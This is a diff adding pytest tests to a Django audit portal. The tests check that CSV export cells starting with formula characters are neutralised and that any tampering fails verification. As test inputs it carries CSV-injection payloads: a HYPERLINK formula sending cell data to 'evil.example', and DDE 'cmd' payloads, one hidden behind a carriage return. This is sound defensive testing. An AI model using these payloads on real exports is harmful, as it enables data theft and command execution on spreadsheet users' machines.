@@ -11,8 +11,11 @@ from pathlib import Path
 
 import pytest
 from django.core.management import call_command
+from django.test import RequestFactory
 from django.urls import reverse
 
+from wrapup_portal.accounts.signals import on_sign_in_failed
+from wrapup_portal.audit.csv_cells import FORMULA_STARTS
 from wrapup_portal.audit.exports import export_file_check
 from wrapup_portal.audit.models import Action, AuditEvent
 from wrapup_portal.audit.services import Actor, audit_record
@@ -83,6 +86,46 @@ def test_a_tampered_export_fails_the_check(compliance_client, tmp_path, capsys, 
         call_command("verify_export", str(path))
     assert exit_info.value.code == 1
     assert problem in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_still_verify(compliance_client, tmp_path, capsys, start: str) -> None:
+    username = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
+    agent = f"{start}cmd|' /C calc'!A0"
+    request = RequestFactory().post("/accounts/login/", HTTP_USER_AGENT=agent)
+    on_sign_in_failed(sender=None, credentials={"username": username, "password": "********"}, request=request)  # #9
+    path, _ = download(compliance_client, "format=csv", tmp_path)
+    text = path.read_bytes().decode()  # not read_text(): it would turn a \r in a cell into \n
+    rows = list(csv.DictReader(io.StringIO(text.rsplit("#manifest ", 1)[0], newline="")))
+    failed = next(r for r in rows if r["action"] == Action.SIGN_IN_FAILED)
+    assert (failed["actor_username"], failed["target_id"], failed["user_agent"]) == ("'" + username, "'" + username, "'" + agent)
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]
+    call_command("verify_export", str(path))
+    assert capsys.readouterr().out.startswith(f"{path}: OK: 9 rows #1..#9")
+    # Re-arming the formula (dropping the quote) is tampering like any other.
+    path.write_bytes(text.replace("'" + start + "cmd", start + "cmd", 1).encode())
+    with pytest.raises(SystemExit) as exit_info:
+        call_command("verify_export", str(path))
+    assert exit_info.value.code == 1 and "SHA-256 of the file" in capsys.readouterr().err
+
+
+def test_a_carriage_return_inside_a_csv_cell_does_not_start_a_row(compliance_client, tmp_path) -> None:
+    username = "bob\r=cmd|' /C calc'!A0"  # no comma or double quote, which would get it quoted anyway
+    audit_record(action=Action.SIGN_IN_FAILED, actor=Actor.for_user(None, username=username))  # #9
+    path, _ = download(compliance_client, "format=csv", tmp_path)
+    text = path.read_bytes().decode()
+    assert '"bob\r=cmd' in text  # quoted: a spreadsheet keeps the \r inside the cell
+    rows = list(csv.DictReader(io.StringIO(text.rsplit("#manifest ", 1)[0], newline="")))
+    assert [r["actor_username"] for r in rows if r["action"] == Action.SIGN_IN_FAILED] == [username]
+    assert export_file_check(path).ok
+
+
+def test_the_csv_manifest_states_the_cell_escaping(compliance_client, tmp_path) -> None:
+    audit_record(action=Action.SIGN_IN_FAILED, actor=Actor.for_user(None, username="'quoted"))  # escaped as ''quoted
+    path, _ = download(compliance_client, "format=csv", tmp_path)
+    check = export_file_check(path, against_db=True)
+    assert check.ok, check.problems
+    assert check.manifest["cell_escaping"]["undo"] == "remove one leading ' from every cell that starts with '"
 
 
 def test_a_filter_of_nothing_exports_an_empty_file_with_a_manifest(compliance_client, tmp_path) -> None:
